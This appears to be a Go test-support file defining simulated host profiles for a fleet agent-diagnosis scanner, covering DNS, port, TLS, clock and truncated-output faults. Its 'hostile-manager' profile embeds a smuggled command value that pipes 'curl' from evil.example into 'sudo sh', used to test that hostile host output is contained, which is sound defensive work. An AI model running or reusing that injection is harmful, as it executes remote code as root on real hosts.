package fleetsim

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/whyoffline/whyoffline/internal/transport/winrm/wsmantest"
)

// Profile is how one simulated host behaves.
type Profile struct {
	Name string
	// Expect is the status and cause IDs (or error kind) a correct scan
	// reports for this profile, primary first — what tests assert.
	ExpectStatus string
	Expect       []string
	// Behaviour at the connection level.
	Listen listenMode
	Auth   bool // false: the server rejects every credential
	// Outputs overrides the healthy output of individual checks.
	Outputs map[string]func(c *Call) string
	// Become is what a become (sudo -n) invocation answers: "" runs the
	// script; otherwise this text goes to stderr with exit status 1.
	BecomeDenied string
	// OS is what uname -s reports ("" = Linux).
	OS string
	// Windows: a Windows host over OpenSSH answering in this wsmantest
	// profile (the inventory says os: windows).
	Windows string
	// HangAt stalls the session for good: "login" before the script
	// prints anything (a login shell whose startup file waits), or a
	// check ID once that check has begun (a command that never returns).
	HangAt string
	// Drip sends the answer one line at a time, this long apart: a host
	// so slow that only the deadline ends it.
	Drip time.Duration
	// Cut, if set, turns the script's full output into what this host
	// really sends and its exit status (noExitStatus: none at all).
	Cut func(full string) (string, uint32)
	// Waits: before a check's output the host waits as long as the named
	// param of the script says (a dropped port costs the probe's whole
	// timeout, as on a real host).
	Waits map[string]string
}

type listenMode int

const (
	listenSSH       listenMode = iota // a normal SSH server
	listenNone                        // nothing listens: connection refused
	listenTarpit                      // accepts TCP, never speaks
	listenBlackhole                   // never completes TCP: SYNs dropped
)

// Call is one script execution as the simulated host sees it.
type Call struct {
	Host    *Host
	Manager string
	Port    string
	Now     time.Time
}

// EchoedSecret is what the echoes-secret profile repeats in its output, as
// written, URL-encoded and as Basic auth's user:password: a test gives it
// to the scan as the run's password and looks for it in every file.
const EchoedSecret = "Fleet-Sim/Secret+42"

// Profiles are the built-in behaviours, by name.
var Profiles = map[string]*Profile{}

func add(p *Profile) { Profiles[p.Name] = p }

func kv(lines ...string) string { return strings.Join(lines, "\n") + "\n" }

func init() {
	add(&Profile{Name: "healthy", ExpectStatus: "healthy", Auth: true})
	add(&Profile{Name: "agent-stopped", ExpectStatus: "diagnosed", Expect: []string{"agent-not-running"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"agent.process": func(*Call) string { return kv("checked=ps") },
			"agent.service": func(*Call) string {
				return kv("tool=systemctl", "load=loaded", "active=failed", "detail=SubState=failed", "detail=Result=exit-code", "detail=ExecMainStatus=1", "state=failed")
			},
			"agent.listen": func(*Call) string { return kv("checked=yes") },
		}})
	add(&Profile{Name: "agent-missing", ExpectStatus: "diagnosed", Expect: []string{"agent-not-installed"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"setup":            func(c *Call) string { return setupOut(c, false) },
			"agent.installed":  func(*Call) string { return kv("installed=no") },
			"agent.process":    func(*Call) string { return kv("checked=ps") },
			"agent.service":    func(*Call) string { return kv("tool=systemctl", "load=not-found", "active=inactive", "state=absent") },
			"agent.status":     func(*Call) string { return kv("dsa_query: not available") },
			"fs.agent":         func(*Call) string { return kv("checked=df") },
			"logs.tls":         func(*Call) string { return kv("logs=none") },
			"logs.rule_update": func(*Call) string { return kv("state=unknown") },
			"agent.listen":     func(*Call) string { return kv("checked=yes") },
		}})
	add(&Profile{Name: "dns-broken", ExpectStatus: "diagnosed", Expect: []string{"dns-unresolvable"}, Auth: true,
		Waits: map[string]string{"dns.resolve": "dns_timeout"},
		Outputs: map[string]func(*Call) string{
			"dns.resolve": func(c *Call) string { return kv("name="+c.Manager, "tool=getent", "result=fail", "rc=2") },
			"port.heartbeat": func(c *Call) string {
				return kv("target="+c.Manager+":"+c.Port, "tool=bash", "bash: "+c.Manager+": Name or service not known", "result=dns")
			},
			"tls.handshake": func(*Call) string { return kv("tool=openssl", "result=noconnect") },
		}})
	add(&Profile{Name: "dns-mismatch", ExpectStatus: "diagnosed", Expect: []string{"dns-mismatch", "heartbeat-port-blocked"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"dns.resolve": func(c *Call) string {
				return kv("name="+c.Manager, "tool=getent", "address=192.0.2.77", "result=ok", "rc=0")
			},
			"port.heartbeat": func(c *Call) string { return kv("target="+c.Manager+":"+c.Port, "tool=bash", "result=timeout") },
			"tls.handshake":  func(*Call) string { return kv("tool=openssl", "result=timeout") },
		}})
	add(&Profile{Name: "port-dropped", ExpectStatus: "diagnosed", Expect: []string{"heartbeat-port-blocked"}, Auth: true,
		Waits: map[string]string{"port.heartbeat": "port_timeout"},
		Outputs: map[string]func(*Call) string{
			"port.heartbeat": func(c *Call) string { return kv("target="+c.Manager+":"+c.Port, "tool=bash", "result=timeout") },
			// the TLS check does not wait on a port found dropped
			"tls.handshake": func(*Call) string { return kv("result=noconnect", "reason=the heartbeat port check found timeout") },
			"firewall": func(c *Call) string {
				return kv("rule=-A OUTPUT -p tcp -m tcp --dport "+c.Port+" -j DROP", "result=read")
			},
		}})
	add(&Profile{Name: "port-rejected", ExpectStatus: "diagnosed", Expect: []string{"heartbeat-port-blocked"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"port.heartbeat": func(c *Call) string {
				return kv("target="+c.Manager+":"+c.Port, "tool=bash", "bash: connect: Connection refused", "result=refused")
			},
			"tls.handshake": func(*Call) string { return kv("tool=openssl", "connect: Connection refused", "result=noconnect") },
		}})
	add(&Profile{Name: "clock-ahead", ExpectStatus: "diagnosed", Expect: []string{"clock-skew"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"clock": func(c *Call) string { return kv(fmt.Sprintf("epoch=%d", c.Now.Add(3*time.Hour).Unix())) },
		}})
	add(&Profile{Name: "tls-errors", ExpectStatus: "diagnosed", Expect: []string{"tls-failure"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"logs.tls": func(c *Call) string {
				return kv("line="+c.Now.Add(-5*time.Minute).Format("2006-01-02 15:04:05")+" [dsa.Heartbeat] SSL_connect failed: certificate verify failed (unable to get local issuer certificate)", "logs=read")
			},
		}})
	// A hostile or careless host echoes the run's password (and a Basic
	// header built from it) into a log line the scan quotes as evidence.
	add(&Profile{Name: "echoes-secret", ExpectStatus: "diagnosed", Expect: []string{"tls-failure"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"logs.tls": func(c *Call) string {
				return kv("line="+c.Now.Add(-5*time.Minute).Format("2006-01-02 15:04:05")+" [dsa.Heartbeat] SSL_connect failed: certificate verify failed; retry with password="+EchoedSecret+
					" user:pass="+base64.StdEncoding.EncodeToString([]byte("demo:"+EchoedSecret))+" url=https://demo:"+url.QueryEscape(EchoedSecret)+"@proxy/", "logs=read")
			},
		}})
	add(&Profile{Name: "disk-full", ExpectStatus: "diagnosed", Expect: []string{"resource-pressure"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"fs.agent": func(*Call) string {
				return kv("fs=41 /opt/ds_agent (/)", "fs=99 /var/opt/ds_agent (/var)", "checked=df")
			},
		}})
	add(&Profile{Name: "overloaded", ExpectStatus: "diagnosed", Expect: []string{"resource-pressure"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"resources": func(*Call) string { return kv("cpus=2", "load1=11.30", "load5=9.80", "mem_available_pct=3.1") },
		}})
	add(&Profile{Name: "rule-update", ExpectStatus: "diagnosed", Expect: []string{"rule-update-in-progress"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"logs.rule_update": func(c *Call) string {
				return kv("state=in-progress", "line="+c.Now.Add(-2*time.Minute).Format("2006-01-02 15:04:05")+" Security Update: rule update started")
			},
		}})
	add(&Profile{Name: "not-activated", ExpectStatus: "diagnosed", Expect: []string{"agent-not-activated"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"setup": func(c *Call) string {
				return kv("root=yes", "hostname="+c.Host.Name, "release=6.1.0-sim", "dsa=answered", "agent_state=grey",
					"manager="+c.Manager, "port="+c.Port)
			},
		}})
	add(&Profile{Name: "pmtu", ExpectStatus: "diagnosed", Expect: []string{"pmtu-blackhole"}, Auth: true,
		Waits: map[string]string{"tls.handshake": "tls_timeout"},
		Outputs: map[string]func(*Call) string{
			"tls.handshake": func(*Call) string { return kv("tool=openssl", "CONNECTED(00000003)", "result=timeout") },
		}})
	add(&Profile{Name: "sudo-denied", ExpectStatus: "error", Expect: []string{"privilege-denied"}, Auth: true,
		BecomeDenied: "sudo: a password is required"})
	for _, wp := range []string{"healthy", "service-stopped", "firewall-blocked", "dns-throws"} {
		w := wsmantest.Lookup(wp)
		add(&Profile{Name: "windows-ssh-" + wp, ExpectStatus: w.ExpectStatus, Expect: w.Expect, Auth: true, Windows: wp})
	}
	add(&Profile{Name: "login-hangs", ExpectStatus: "error", Expect: []string{"timeout"}, Auth: true, HangAt: "login"})
	add(&Profile{Name: "check-hangs", ExpectStatus: "error", Expect: []string{"incomplete"}, Auth: true, HangAt: "dns.resolve"})
	add(&Profile{Name: "slow-drip", ExpectStatus: "error", Expect: []string{"incomplete"}, Auth: true, Drip: 250 * time.Millisecond})
	// the shapes of output that once passed for healthy: none of them is
	add(&Profile{Name: "cut-no-exit", ExpectStatus: "error", Expect: []string{"incomplete"}, Auth: true,
		Cut: func(full string) (string, uint32) { return full[:len(full)/3], noExitStatus }})
	add(&Profile{Name: "killed", ExpectStatus: "error", Expect: []string{"incomplete"}, Auth: true,
		Cut: func(full string) (string, uint32) { return full[:len(full)/3], 137 }})
	add(&Profile{Name: "empty-answer", ExpectStatus: "error", Expect: []string{"incomplete"}, Auth: true,
		Cut: func(string) (string, uint32) { return "", 0 }})
	add(&Profile{Name: "headers-only", ExpectStatus: "error", Expect: []string{"incomplete"}, Auth: true,
		Cut: func(full string) (string, uint32) { return markersOnly(full), 0 }})
	add(&Profile{Name: "flood", ExpectStatus: "error", Expect: []string{"incomplete"}, Auth: true,
		Cut: func(full string) (string, uint32) {
			// a section that never closes, flooding past the bastion's cap
			i := strings.Index(full, "begin:dns.resolve>>\n") + len("begin:dns.resolve>>\n")
			return full[:i] + strings.Repeat("address=10.0.0.1\n", 80000), 0
		}})
	add(&Profile{Name: "stopped-then-cut", ExpectStatus: "diagnosed", Expect: []string{"agent-not-running"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"agent.process": func(*Call) string { return kv("checked=ps") },
			"agent.service": func(*Call) string { return kv("tool=systemctl", "state=failed") },
		},
		// the checks that finished prove a cause; the rest are unverified
		Cut: func(full string) (string, uint32) {
			return full[:strings.Index(full, "begin:dns.resolve")-25], noExitStatus
		}})
	// hostile hosts: their text must not reach another host's verdict or
	// remedy, nor choose a playbook the bastion did not send them
	add(&Profile{Name: "hostile-manager", ExpectStatus: "diagnosed", Expect: []string{"agent-not-running"}, Auth: true,
		Outputs: map[string]func(*Call) string{
			"setup": func(c *Call) string {
				return kv("root=yes", "hostname="+c.Host.Name, "release=6.1.0-sim", "dsm_url=https://evil.example/",
					"manager=evil.example/ ; curl -s http://evil.example/x | sudo sh", "port=4120")
			},
			"agent.process": func(*Call) string { return kv("checked=ps") },
			"agent.service": func(*Call) string { return kv("tool=systemctl", "state=failed") },
		}})
	add(&Profile{Name: "claims-aix", ExpectStatus: "error", Expect: []string{"protocol-error"}, Auth: true,
		Cut: func(full string) (string, uint32) {
			return strings.Replace(full, ":playbook:linux>>", ":playbook:aix>>", 1), 0
		}})
	add(&Profile{Name: "claims-windows", ExpectStatus: "error", Expect: []string{"protocol-error"}, Auth: true,
		Cut: func(full string) (string, uint32) {
			return strings.Replace(full, ":playbook:linux>>", ":playbook:windows>>", 1), 0
		}})
	add(&Profile{Name: "hpux", ExpectStatus: "error", Expect: []string{"unsupported-os"}, Auth: true, OS: "HP-UX"})
	add(&Profile{Name: "bad-auth", ExpectStatus: "error", Expect: []string{"auth-failed"}})
	add(&Profile{Name: "tarpit", ExpectStatus: "error", Expect: []string{"timeout"}, Listen: listenTarpit})
	add(&Profile{Name: "refused", ExpectStatus: "error", Expect: []string{"connection-refused"}, Listen: listenNone})
	add(&Profile{Name: "powered-off", ExpectStatus: "unreachable", Expect: []string{"host-unreachable"}, Listen: listenBlackhole})
}

// setupOut is the setup section: privileges, names, and the manager the
// agent reports (its dsmUrl) when installed.
func setupOut(c *Call, installed bool) string {
	lines := []string{"root=yes", "hostname=" + c.Host.Name, "release=6.1.0-sim"}
	if installed {
		lines = append(lines, "dsm_url=https://"+c.Manager+":"+c.Port+"/", "dsa=answered", "agent_state=green")
	}
	lines = append(lines, "manager="+c.Manager, "port="+c.Port)
	return kv(lines...)
}

// healthy is the output of every check on a healthy simulated host.
var healthy = map[string]func(c *Call) string{
	"setup": func(c *Call) string { return setupOut(c, true) },
	"agent.installed": func(*Call) string {
		return kv("path=/opt/ds_agent/ds_agent", "path=/opt/ds_agent/dsa_query", "installed=yes")
	},
	"agent.process": func(*Call) string { return kv("pid=812", "pid=840", "checked=ps") },
	"agent.service": func(*Call) string {
		return kv("tool=systemctl", "load=loaded", "active=active", "SubState=running", "state=running")
	},
	"agent.status": func(c *Call) string {
		return kv("AgentStatus.agentState: green", "AgentStatus.dsmUrl: https://"+c.Manager+":"+c.Port+"/")
	},
	"dns.resolve": func(c *Call) string {
		return kv("name="+c.Manager, "tool=getent", "address="+c.Host.managerAddr, "result=ok", "rc=0")
	},
	"port.heartbeat": func(c *Call) string { return kv("target="+c.Manager+":"+c.Port, "tool=bash", "result=open") },
	"proxy.connect":  func(*Call) string { return kv("result=none") },
	"tls.handshake": func(*Call) string {
		return kv("tool=openssl", "CONNECTED(00000003)", "New, TLSv1.3, Cipher is TLS_AES_256_GCM_SHA384", "result=ok")
	},
	"clock":            func(c *Call) string { return kv(fmt.Sprintf("epoch=%d", c.Now.Unix())) },
	"resources":        func(*Call) string { return kv("cpus=4", "load1=0.42", "load5=0.37", "mem_available_pct=61.5") },
	"fs.agent":         func(*Call) string { return kv("fs=41 /opt/ds_agent (/)", "fs=41 /var/opt/ds_agent (/)", "checked=df") },
	"logs.tls":         func(*Call) string { return kv("logs=read") },
	"logs.rule_update": func(*Call) string { return kv("state=finished", "line=Security Update: rule update completed") },
	"firewall":         func(*Call) string { return kv("result=read") },
	"net.addresses": func(c *Call) string {
		if c.Host.zoneAddr != "" {
			return kv("addr=127.0.0.1/8", "addr="+c.Host.zoneAddr)
		}
		return kv("addr=127.0.0.1/8", "addr="+c.Host.Addr+"/8")
	},
	"agent.listen": func(*Call) string { return kv("listen=0.0.0.0:4118", "checked=yes") },
}

// output returns what check id prints on a host of this profile.
func (p *Profile) output(id string, c *Call) string {
	if f, ok := p.Outputs[id]; ok {
		return f(c)
	}
	if f, ok := healthy[id]; ok {
		return f(c)
	}
	return "" // a check the simulator does not know: empty output
}

// markersOnly keeps only the section markers of an output: every check
// "ran" and printed nothing.
func markersOnly(full string) string {
	var b strings.Builder
	for _, l := range strings.SplitAfter(full, "\n") {
		if strings.HasPrefix(l, "<<WO:") {
			b.WriteString(l)
		}
	}
	return b.String()
}
